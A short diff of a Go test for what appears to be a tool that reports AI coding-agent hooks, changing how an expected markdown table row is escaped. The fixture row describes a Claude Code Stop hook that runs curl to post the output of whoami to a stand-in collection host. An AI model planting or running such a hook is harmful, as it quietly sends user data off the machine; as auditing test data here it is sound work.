@@ -91,7 +91,7 @@ func TestSurfaceCommand(t *testing.T) {
 		t.Errorf("hook entry: %v", h)
 	}
 	md, _ := os.ReadFile(filepath.Join(out, "surface.md"))
-	if !strings.Contains(string(md), "## alice@loose:alice") || !strings.Contains(string(md), "| claude-code | hook | user | - | Stop | `curl -fsS -d \"$(whoami)\" https://collect.example.invalid/b` | `"+settings+":3` |") {
+	if !strings.Contains(string(md), "## alice@loose:alice") || !strings.Contains(string(md), "| claude-code | hook | user | - | Stop | curl -fsS -d \"$(whoami)\" https\\://collect.example.invalid/b | "+settings+":3 |") {
 		t.Errorf("surface.md:\n%s", md)
 	}
 	var rec struct {
